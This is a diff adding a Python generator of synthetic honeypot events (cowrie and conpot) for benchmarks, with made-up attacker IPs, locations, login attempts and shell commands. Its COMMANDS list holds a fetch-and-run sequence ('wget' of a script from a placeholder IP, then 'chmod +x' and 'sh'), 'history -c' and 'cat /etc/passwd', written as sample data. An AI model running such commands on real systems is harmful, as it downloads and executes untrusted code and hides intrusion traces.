@@ -0,0 +1,262 @@
+import argparse
+import uuid
+from datetime import datetime, timedelta
+from itertools import groupby
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+
+from stingar_data import CSV_DTYPES, EVENT_COLUMNS, clean_events, concat_categorical
+
+# Deterministic synthetic STINGAR events for benchmarks and local runs.
+# Every hour draws from its own seeded stream, so any hour (or file) comes out
+# the same whatever the window, scale of the other hours or generation order.
+
+# (country, [(city, latitude, longitude)]), roughly the usual mix of scanning sources
+LOCATIONS = [('China', [('Beijing', 39.9042, 116.4074), ('Shanghai', 31.2304, 121.4737),
+                        ('Shenzhen', 22.5431, 114.0579), ('Guangzhou', 23.1291, 113.2644)]),
+             ('United States', [('Ashburn', 39.0438, -77.4874), ('Santa Clara', 37.3541, -121.9552),
+                                ('New York', 40.7128, -74.0060), ('Dallas', 32.7767, -96.7970)]),
+             ('Russia', [('Moscow', 55.7558, 37.6173), ('Saint Petersburg', 59.9311, 30.3609)]),
+             ('Netherlands', [('Amsterdam', 52.3676, 4.9041)]),
+             ('Germany', [('Frankfurt am Main', 50.1109, 8.6821), ('Nuremberg', 49.4521, 11.0767)]),
+             ('India', [('Mumbai', 19.0760, 72.8777), ('Bengaluru', 12.9716, 77.5946)]),
+             ('Brazil', [('Sao Paulo', -23.5505, -46.6333), ('Rio de Janeiro', -22.9068, -43.1729)]),
+             ('South Korea', [('Seoul', 37.5665, 126.9780)]),
+             ('Vietnam', [('Hanoi', 21.0278, 105.8342), ('Ho Chi Minh City', 10.8231, 106.6297)]),
+             ('Singapore', [('Singapore', 1.3521, 103.8198)]),
+             ('United Kingdom', [('London', 51.5074, -0.1278)]),
+             ('France', [('Paris', 48.8566, 2.3522)]),
+             ('Indonesia', [('Jakarta', -6.2088, 106.8456)]),
+             ('Iran', [('Tehran', 35.6892, 51.3890)]),
+             ('Taiwan', [('Taipei', 25.0330, 121.5654)])]
+COUNTRY_WEIGHTS = [0.22, 0.20, 0.08, 0.07, 0.06, 0.06, 0.05, 0.04, 0.04, 0.04, 0.04, 0.03, 0.03, 0.02, 0.02]
+ASN_ORGS = [(4134, 'CHINANET-BACKBONE'), (4837, 'CHINA UNICOM China169 Backbone'),
+            (45090, 'Shenzhen Tencent Computer Systems Company Limited'), (14061, 'DIGITALOCEAN-ASN'),
+            (16509, 'AMAZON-02'), (396982, 'GOOGLE-CLOUD-PLATFORM'), (63949, 'Akamai Connected Cloud'),
+            (51167, 'Contabo GmbH'), (9009, 'M247 Europe SRL'), (12389, 'PJSC Rostelecom'),
+            (4766, 'Korea Telecom'), (9829, 'National Internet Backbone'), (7552, 'Viettel Group'),
+            (28573, 'Claro NXT Telecomunicacoes Ltda'), (202425, 'IP Volume inc')]
+HOSTNAME_DOMAINS = ['static.example.net', 'dyn.example.com', 'cloud.example.org', 'broadband.example.cn']
+
+# honeypot -> (protocols, protocol weights)
+HONEYPOTS = {'cowrie': (['ssh', 'telnet'], [0.75, 0.25]),
+             'conpot': (['modbus', 's7comm', 'http', 'snmp', 'bacnet'], [0.3, 0.25, 0.25, 0.1, 0.1])}
+USERNAMES = ['root', 'admin', 'user', 'ubuntu', 'test', 'oracle', 'pi', 'support', 'guest',
+             'postgres', 'ftpuser', 'git', 'nproc', 'hadoop', 'deploy', 'ec2-user']
+PASSWORDS = ['123456', 'admin', 'password', 'root', '12345678', '1234', 'qwerty', '123', 'test',
+             'raspberry', 'admin123', '111111', 'P@ssw0rd', '1qaz2wsx', 'toor', 'changeme']
+COMMANDS = ['uname -a', 'cat /proc/cpuinfo', 'free -m', 'whoami', 'ls -la', 'w', 'crontab -l',
+            'cd /tmp', 'wget http://203.0.113.7/x.sh', 'chmod +x x.sh', 'sh x.sh', 'history -c',
+            'cat /etc/passwd', 'nproc', 'ps aux', 'echo ok']
+# distinct list values drawn per column, rows pick among them with a long tail
+LIST_VOCABULARY = 256
+
+SHARE_IPV6 = 0.03
+SHARE_NO_HOSTNAME = 0.4
+SHARE_NO_GEO = 0.02
+SHARE_NO_END_TIME = 0.001
+
+def seeded(seed, *stream):
+    """Independent generator for one named stream of `seed`."""
+    return np.random.default_rng([seed, *stream])
+
+def zipf_weights(n, exponent, rng):
+    # rank r gets weight 1 / r^exponent, ranks shuffled over the items
+    weights = 1.0 / np.arange(1, n + 1) ** exponent
+    return rng.permutation(weights / weights.sum())
+
+def list_vocabulary(values, max_len, size, rng):
+    """`size` list-literal strings of 1..max_len values, the same format as the exports."""
+    lengths = rng.integers(1, max_len + 1, size)
+    return np.array([str(list(rng.choice(values, length))) for length in lengths], dtype=object)
+
+def unique_integers(rng, n, low, high):
+    """`n` distinct integers in [low, high), in draw order."""
+    values = np.array([], dtype=np.int64)
+    while len(values) < n:
+        values = pd.unique(np.concatenate([values, rng.integers(low, high, n - len(values))]))
+    return values.tolist()
+
+def make_sensors(n_sensors, seed):
+    rng = seeded(seed, 0, 1)
+    uuids = [str(uuid.UUID(bytes=rng.bytes(16), version=4)) for _ in range(n_sensors)]
+    dst_ips = [f"152.3.{rng.integers(0, 256)}.{rng.integers(1, 255)}" for _ in range(n_sensors)]
+    return np.array(uuids, dtype=object), np.array(dst_ips, dtype=object)
+
+def make_ip_pool(n_ips, days, seed):
+    """Attacker IPs with their attributes, activity weight, cowrie share and active hours."""
+    rng = seeded(seed, 0, 0)
+    n_ipv6 = int(rng.binomial(n_ips, SHARE_IPV6))
+    ipv4 = unique_integers(rng, n_ips - n_ipv6, 0x01000000, 0xE0000000)
+    ipv6 = unique_integers(rng, n_ipv6, 0, 2 ** 48)
+    ips = np.array([f"{v >> 24}.{v >> 16 & 255}.{v >> 8 & 255}.{v & 255}" for v in ipv4] +
+                   [f"2001:db8:{v >> 32:x}:{v >> 16 & 0xffff:x}::{v & 0xffff:x}" for v in ipv6], dtype=object)
+    ips = ips[rng.permutation(n_ips)]
+
+    country_idx = rng.choice(len(LOCATIONS), n_ips, p=COUNTRY_WEIGHTS)
+    city_idx = (rng.random(n_ips) * np.array([len(LOCATIONS[c][1]) for c in country_idx])).astype(int)
+    cities = [LOCATIONS[c][1][i] for c, i in zip(country_idx, city_idx)]
+    asn_idx = rng.integers(0, len(ASN_ORGS), n_ips)
+    no_geo = rng.random(n_ips) < SHARE_NO_GEO
+    has_hostname = rng.random(n_ips) >= SHARE_NO_HOSTNAME
+    domains = rng.choice(HOSTNAME_DOMAINS, n_ips)
+    pool = pd.DataFrame({
+        'src_ip': ips,
+        'hostname': [f"{ip.replace('.', '-').replace(':', '-')}.{domain}" if named else None
+                     for ip, domain, named in zip(ips, domains, has_hostname)],
+        'asn': [ASN_ORGS[i][0] for i in asn_idx],
+        'asn_org': [ASN_ORGS[i][1] for i in asn_idx],
+        'city': [city for city, _, _ in cities],
+        'country': [LOCATIONS[c][0] for c in country_idx],
+        # a few IPs are registered elsewhere than they are located
+        'registered_country': [LOCATIONS[c][0] for c in np.where(rng.random(n_ips) < 0.05,
+                                                                 rng.integers(0, len(LOCATIONS), n_ips),
+                                                                 country_idx)],
+        # jitter around the city centre so locations are not all identical
+        'latitude': np.array([lat for _, lat, _ in cities]) + rng.normal(0, 0.05, n_ips),
+        'longitude': np.array([lon for _, _, lon in cities]) + rng.normal(0, 0.05, n_ips),
+    })
+    pool.loc[no_geo, ['city', 'latitude', 'longitude']] = np.nan
+
+    # a few IPs send most of the events, and each is active for a stretch of the window
+    pool['weight'] = zipf_weights(n_ips, 1.1, rng)
+    pool['cowrie_share'] = rng.beta(4, 1, n_ips)
+    n_hours = days * 24
+    pool['first_hour'] = rng.integers(0, n_hours, n_ips)
+    lifetime = np.ceil(rng.exponential(n_hours / 4, n_ips)).astype(int) + 1
+    # the busiest tenth of the IPs keep scanning for the whole window
+    busy = pool['weight'].to_numpy() >= np.quantile(pool['weight'], 0.9)
+    pool.loc[busy, 'first_hour'] = 0
+    lifetime[busy] = n_hours
+    pool['last_hour'] = np.minimum(pool['first_hour'] + lifetime, n_hours)
+    return pool
+
+def hourly_counts(n_rows, days, seed):
+    """Split `n_rows` over the hours of the window with a daily cycle."""
+    rng = seeded(seed, 0, 2)
+    hours = np.arange(days * 24)
+    shape = (1 + 0.3 * np.sin(2 * np.pi * (hours % 24 - 6) / 24)) * rng.gamma(20, 1 / 20, len(hours))
+    return rng.multinomial(n_rows, shape / shape.sum())
+
+def generate_hour(hour_start, hour_index, n, pool, sensors, vocabulary, seed):
+    """Raw events of one hour, shaped like an hourly export before parsing."""
+    rng = seeded(seed, 1, hour_index)
+    active = ((pool['first_hour'].to_numpy() <= hour_index) & (hour_index < pool['last_hour'].to_numpy()))
+    cdf = np.cumsum(pool['weight'].to_numpy() * active)
+    if cdf[-1] <= 0:
+        cdf = np.cumsum(pool['weight'].to_numpy())
+    ip = np.searchsorted(cdf, rng.random(n) * cdf[-1], side='right')
+    events = pool.iloc[ip].reset_index(drop=True)
+
+    is_cowrie = rng.random(n) < events['cowrie_share'].to_numpy()
+    app = np.where(is_cowrie, 'cowrie', 'conpot').astype(object)
+    protocol = np.empty(n, dtype=object)
+    for name, mask in (('cowrie', is_cowrie), ('conpot', ~is_cowrie)):
+        protocols, weights = HONEYPOTS[name]
+        protocol[mask] = rng.choice(protocols, mask.sum(), p=weights)
+
+    offsets = np.sort(rng.integers(0, 3_600_000_000, n)).astype('timedelta64[us]')
+    event_time = (np.datetime64(hour_start, 'us') + offsets).astype('datetime64[ns]')
+    # cowrie sessions last seconds to minutes, conpot requests are short
+    duration = np.where(is_cowrie, rng.lognormal(1.5, 1.2, n), rng.exponential(0.5, n))
+    end_time = event_time + np.round(duration * 1e6).astype('timedelta64[us]')
+    end_time[rng.random(n) < SHARE_NO_END_TIME] = np.datetime64('NaT')
+
+    sensor = rng.integers(0, len(sensors[0]), n)
+    # list columns pick from a fixed vocabulary with a long tail, '[]' when nothing was sent
+    def list_column(values, share):
+        picks = values[np.minimum(rng.zipf(1.5, n) - 1, len(values) - 1)]
+        return np.where(is_cowrie & (rng.random(n) < share), picks, '[]').astype(object)
+    username = list_column(vocabulary['username'], 0.7)
+    password = np.where(username == '[]', '[]', list_column(vocabulary['password'], 1.0)).astype(object)
+    commands = list_column(vocabulary['hp_data_commands'], 0.3)
+    commands[~is_cowrie] = None
+    username[~is_cowrie] = None
+    password[~is_cowrie] = None
+
+    raw = pd.DataFrame({
+        'src_ip': events['src_ip'].to_numpy(),
+        'src_port': rng.integers(1024, 65536, n),
+        'dst_ip': sensors[1][sensor],
+        'event_time': event_time,
+        'start_time': event_time,
+        'end_time': end_time,
+        'hostname': events['hostname'].to_numpy(),
+        'sensor_uuid': sensors[0][sensor],
+        'asn': events['asn'].to_numpy(),
+        'asn_org': events['asn_org'].to_numpy(),
+        'city': events['city'].to_numpy(),
+        'country': events['country'].to_numpy(),
+        'registered_country': events['registered_country'].to_numpy(),
+        'latitude': events['latitude'].to_numpy(),
+        'longitude': events['longitude'].to_numpy(),
+        'app': app,
+        'protocol': protocol,
+        'hp_data_session': pd.Series(rng.integers(0, 2 ** 48, n)).map('{:012x}'.format).to_numpy(),
+        'hp_data_commands': commands,
+        'username': username,
+        'password': password,
+    }, columns=EVENT_COLUMNS)
+    # exports carry UTC offsets, localized on whole columns to stay vectorized
+    for col in ['event_time', 'start_time', 'end_time']:
+        raw[col] = raw[col].dt.tz_localize('UTC')
+    return raw
+
+def generate_events(n_rows, start=datetime(2023, 10, 1), days=30, n_ips=None, n_sensors=12, seed=0):
+    """Yield (hour, raw frame) for every hour of the window that has events.
+
+    `n_rows` is split exactly over the hours; `n_ips` defaults to one IP per
+    25 events. The same arguments always give the same events.
+    """
+    if n_ips is None:
+        n_ips = int(min(max(100, n_rows // 25), 2_000_000))
+    pool = make_ip_pool(n_ips, days, seed)
+    sensors = make_sensors(n_sensors, seed)
+    rng = seeded(seed, 0, 3)
+    vocabulary = {'username': list_vocabulary(USERNAMES, 3, LIST_VOCABULARY, rng),
+                  'password': list_vocabulary(PASSWORDS, 3, LIST_VOCABULARY, rng),
+                  'hp_data_commands': list_vocabulary(COMMANDS, 6, LIST_VOCABULARY, rng)}
+    for hour_index, n in enumerate(hourly_counts(n_rows, days, seed)):
+        if n == 0:
+            continue
+        hour_start = start + timedelta(hours=hour_index)
+        yield hour_start, generate_hour(hour_start, hour_index, int(n), pool, sensors, vocabulary, seed)
+
+def event_file_name(hour):
+    return f"events_{hour:%Y_%m_%d_%H}.csv"
+
+def write_event_files(directory, n_rows, **kwargs):
+    """Write the synthetic events as hourly CSV exports into `directory`, returning the paths."""
+    directory = Path(directory)
+    directory.mkdir(parents=True, exist_ok=True)
+    paths = []
+    for hour, raw in generate_events(n_rows, **kwargs):
+        path = directory / event_file_name(hour)
+        raw.to_csv(path, index=False)
+        paths.append(str(path))
+    return paths
+
+def synthetic_events(n_rows, **kwargs):
+    """Cleaned, time-sorted synthetic events, as load_data would return them."""
+    # cleaned a day at a time, per-call overhead would dominate hourly frames
+    frames = [clean_events(pd.concat([raw for _, raw in hours], ignore_index=True).astype(CSV_DTYPES))
+              for _, hours in groupby(generate_events(n_rows, **kwargs), key=lambda item: item[0].date())]
+    return concat_categorical(frames)
+
+def main():
+    parser = argparse.ArgumentParser(description="Write synthetic STINGAR hourly event exports.")
+    parser.add_argument('directory', help="output directory for events_YYYY_MM_DD_HH.csv files")
+    parser.add_argument('--rows', type=int, default=100_000, help="total number of events")
+    parser.add_argument('--start', default='2023-10-01', help="first day of the window")
+    parser.add_argument('--days', type=int, default=30, help="number of days in the window")
+    parser.add_argument('--ips', type=int, default=None, help="number of attacker IPs")
+    parser.add_argument('--seed', type=int, default=0)
+    args = parser.parse_args()
+    paths = write_event_files(args.directory, args.rows, start=datetime.fromisoformat(args.start),
+                              days=args.days, n_ips=args.ips, seed=args.seed)
+    print(f"Wrote {len(paths)} files to {args.directory}")
+
+if __name__ == "__main__":
+    main()